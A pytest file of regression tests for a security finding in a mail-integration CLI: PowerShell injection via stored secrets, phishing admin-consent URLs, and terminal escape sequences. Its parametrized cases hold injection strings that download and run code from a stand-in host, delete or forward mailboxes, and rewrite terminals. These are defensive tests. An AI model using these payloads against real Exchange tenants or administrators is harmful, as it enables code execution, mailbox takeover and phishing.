"""Finding 1: PowerShell injection through ``mailbroker setup microsoft``, a phishing consent URL,
and terminal escapes printed raw by ``integration list``.

The attacker can write an integration secret; the victim is the Exchange administrator who runs
``mailbroker setup microsoft`` (the ``smtp_auth_failed`` hint sends them there) and pastes what it
prints into an Exchange Online session. The hostile secrets are written to Secrets Manager on moto
server, and the commands run as the administrator would run them.
"""

from __future__ import annotations

import io
import secrets
import uuid

import pytest
from mailbroker import runtime
from mailbroker.errors import classify_token_error
from mailbroker.integrations import IntegrationStore, context_of, parse_integration

from mailbroker_cli.main import main
from mailbroker_cli.output import Output
from mailbroker_cli.setup import (
    admin_consent_url,
    graph_plan,
    microsoft_plan,
    plan_problems,
    powershell_string,
)
from mailbroker_sandbox.aws import provision

TENANT = "3f2a1b4c-5d6e-4f70-8a9b-0c1d2e3f4a5b"
CLIENT = "9e8d7c6b-5a49-4837-a261-504f3e2d1c0b"
OBJECT = "11111111-2222-4333-8444-555555555555"


def _document(**overrides: object) -> dict:
    document = {
        "id": "m365",
        "provider": "microsoft",
        "smtp": {"host": "smtp.office365.com"},
        "username": "support@contoso.com",
        "senders": [{"email": "sales@contoso.com"}],
        "tenant_id": TENANT,
        "client_id": CLIENT,
        "client_secret": "not-used",
    }
    document.update(overrides)
    return document


@pytest.fixture
def deployment(moto_server, template, aws_env, monkeypatch, capsys):
    """A stack with its own secret prefix; ``write`` stores a secret as an attacker would (the
    integration schema accepts these values), ``run`` runs a command and returns its output."""
    stack = provision(
        template,
        endpoint_url=moto_server.endpoint_url,
        parameters={"SecretPrefix": f"f1-{secrets.token_hex(4)}/"},
    )
    for name, value in stack.function_env("KeeperFunction").items():
        monkeypatch.setenv(name, value)
    monkeypatch.setenv("NO_COLOR", "1")
    runtime.reset()
    store = IntegrationStore(stack.client("secretsmanager"), stack.parameters["SecretPrefix"], max_age=0)

    class Deployment:
        def write(self, document: dict) -> None:
            store.put(parse_integration(document))

        def run(self, *argv: str) -> tuple[int, str, str]:
            capsys.readouterr()
            code = main(list(argv))
            captured = capsys.readouterr()
            return code, captured.out, captured.err

    yield Deployment()
    for integration_id in store.list_ids():
        store.delete(integration_id)
    stack.delete()
    runtime.reset()


@pytest.mark.parametrize(
    "field, value",
    [
        ("username", 'x@contoso.com"; Add-MailboxPermission -Identity ceo@contoso.com -User evil; "'),
        ("username", "x$(Invoke-WebRequest https://evil.example/p | iex)@contoso.com"),
        ("tenant_id", 'contoso"; Remove-Mailbox ceo -Confirm:$false; "'),
        ("client_id", "$(iex (irm https://evil.example))"),
        ("senders", [{"email": "a@contoso.com\";Set-Mailbox('ceo')-ForwardingSmtpAddress:evil;\""}]),
    ],
)
@pytest.mark.parametrize("transport", ["smtp", "graph"])
def test_finding_1_setup_refuses_an_integration_whose_values_would_run_as_powershell(
    deployment, field, value, transport
):
    deployment.write(_document(**{field: value}))

    code, out, err = deployment.run(
        "setup", "microsoft", "m365", "--object-id", OBJECT, "--transport", transport
    )

    assert code == 2
    assert out == ""  # not one command printed
    assert "cannot go into the set-up commands" in err
    assert "Invoke-WebRequest" not in err and "Remove-Mailbox" not in err and "Set-Mailbox" not in err


def test_finding_1_a_valid_address_with_a_quote_stays_one_single_quoted_string():
    # ' and the typographic quotes PowerShell also reads as ' are legal in an address's local part.
    integration = parse_integration(
        _document(username="o'brien@contoso.com", senders=[{"email": "a\u2019b@contoso.com"}])
    )
    assert plan_problems(integration, OBJECT) == []

    plan = microsoft_plan(integration, OBJECT)

    assert f"Add-MailboxPermission -Identity 'o''brien@contoso.com' -User '{OBJECT}'" in " ".join(
        plan["powershell"]
    )
    assert "-Identity 'a\u2019\u2019b@contoso.com'" in " ".join(plan["powershell"])
    assert not any('"' in command for command in plan["powershell"])
    assert powershell_string("$(calc)") == "'$(calc)'"  # single quotes: no expansion, no subexpression


def test_finding_1_setup_prints_single_quoted_commands_for_a_valid_integration(deployment):
    deployment.write(_document())

    code, out, _ = deployment.run("setup", "microsoft", "m365", "--object-id", OBJECT)

    assert code == 0
    assert f"Connect-ExchangeOnline -Organization '{TENANT}'" in out
    assert (
        f"New-ServicePrincipal -AppId '{CLIENT}' -ObjectId '{OBJECT}' -DisplayName 'mailbroker m365'" in out
    )
    assert "Set-CASMailbox -Identity 'support@contoso.com' -SmtpClientAuthenticationDisabled $false" in out


def test_finding_1_an_object_id_that_is_not_a_guid_is_refused(deployment):
    deployment.write(_document())

    code, out, err = deployment.run("setup", "microsoft", "m365", "--object-id", "x'; iex evil; '")

    assert code == 2 and out == "" and "--object-id must be" in err


@pytest.mark.parametrize(
    "authority",
    [
        "https://login.microsoftonline.com.evil.example",
        "https://evil.example",
        "https://login.microsoftonline.com:8443",
        "https://login.microsoftonline.com/evil-path",
    ],
)
@pytest.mark.parametrize("transport", ["smtp", "graph"])
def test_finding_1_no_consent_url_for_an_authority_that_is_not_microsofts(deployment, authority, transport):
    deployment.write(_document(authority=authority))

    code, out, _ = deployment.run(
        "setup", "microsoft", "m365", "--object-id", OBJECT, "--transport", transport
    )

    assert code == 0
    assert "adminconsent" not in out and "evil" not in out
    assert "is not a Microsoft sign-in host" in out
    integration = parse_integration(_document(authority=authority))
    assert microsoft_plan(integration, OBJECT)["admin_consent_url"] is None
    assert graph_plan(integration, OBJECT)["admin_consent_url"] is None


@pytest.mark.parametrize(
    "authority", ["https://evil.example", "https://login.microsoftonline.com.evil.example"]
)
def test_finding_1_error_hints_send_no_one_to_an_authority_that_is_not_microsofts(authority):
    # The hints of token failures (status records, dead letters, doctor) name where to consent.
    integration = parse_integration(_document(authority=authority))

    for aadsts in (700016, 65001):
        error = classify_token_error(
            status=400,
            error="invalid_client",
            error_codes=[aadsts],
            provider="microsoft",
            context=context_of(integration),
        )
        assert "evil" not in error.hint and "adminconsent" not in error.hint
        assert "Grant admin consent" in error.hint
    genuine = classify_token_error(
        status=400,
        error="invalid_client",
        error_codes=[65001],
        provider="microsoft",
        context=context_of(parse_integration(_document())),
    )
    assert f"https://login.microsoftonline.com/{TENANT}/adminconsent?client_id={CLIENT}" in genuine.hint


@pytest.mark.parametrize(
    "authority, host",
    [
        ("https://login.microsoftonline.com", "login.microsoftonline.com"),
        ("https://login.microsoftonline.us", "login.microsoftonline.us"),
        ("https://login.chinacloudapi.cn", "login.chinacloudapi.cn"),
        ("https://login.partner.microsoftonline.cn", "login.partner.microsoftonline.cn"),
    ],
)
def test_finding_1_consent_url_on_public_and_sovereign_cloud_hosts(authority, host):
    integration = parse_integration(_document(authority=authority))

    assert admin_consent_url(integration) == (
        f"https://{host}/{TENANT}/v2.0/adminconsent?client_id={CLIENT}"
        "&scope=https://outlook.office365.com/.default&redirect_uri=http://localhost"
    )
    assert graph_plan(integration, OBJECT)["admin_consent_url"] == (
        f"https://{host}/{TENANT}/adminconsent?client_id={CLIENT}"
    )


def test_finding_1_tenant_may_be_a_verified_domain_name():
    integration = parse_integration(_document(tenant_id="contoso.onmicrosoft.com"))

    assert plan_problems(integration, None) == []


def test_finding_1_integration_list_prints_no_terminal_escape_from_a_username(deployment):
    # ESC ] 0 ; ... BEL retitles the terminal; ESC [ 2 J clears it; CR and a C1 CSI rewrite lines.
    hostile = "a\x1b]0;pwned\x07\x1b[2J\r\x9b1Aok@contoso.com"
    deployment.write(_document(id="evil", username=hostile))

    code, out, err = deployment.run("integration", "list")

    assert code == 0
    assert "evil" in out
    printed = out + err
    assert not any((ord(ch) < 0x20 and ch != "\n") or 0x7F <= ord(ch) <= 0x9F for ch in printed)
    assert "a]0;pwned[2J1Aok@contoso.com" in out  # the text stays readable, its escapes gone


def test_finding_1_every_output_path_strips_control_characters():
    stdout, stderr = io.StringIO(), io.StringIO()
    out = Output(stdout, stderr)
    hostile = "x\x1b[8m\u202egnp.exe\x00\x07"

    out.line(hostile)
    out.note(hostile)
    out.warn(hostile)
    out.error("code", hostile, hint=hostile)
    out.table(["A"], [[hostile]])
    out.json({"v": hostile})

    printed = stdout.getvalue() + stderr.getvalue()
    assert (
        "\x1b" not in printed and "\u202e" not in printed and "\x00" not in printed and "\x07" not in printed
    )
    assert "\\u001b" in printed  # --json escapes it instead


def test_finding_1_colour_codes_of_the_cli_itself_survive_on_a_terminal():
    class Tty(io.StringIO):
        def isatty(self) -> bool:
            return True

    stdout = Tty()
    out = Output(stdout, Tty())
    out.colour = True

    out.line(out.paint("ok", "green") + " \x1b[2Jname")

    assert stdout.getvalue() == "\x1b[32mok\x1b[0m [2Jname\n"


def test_finding_1_hostile_ids_are_not_guids():
    assert plan_problems(parse_integration(_document(tenant_id="contoso")), None) == [
        "tenant_id must be the tenant's GUID or one of its verified domain names"
    ]
    assert uuid.UUID(TENANT)  # the fixtures' ids are real GUIDs
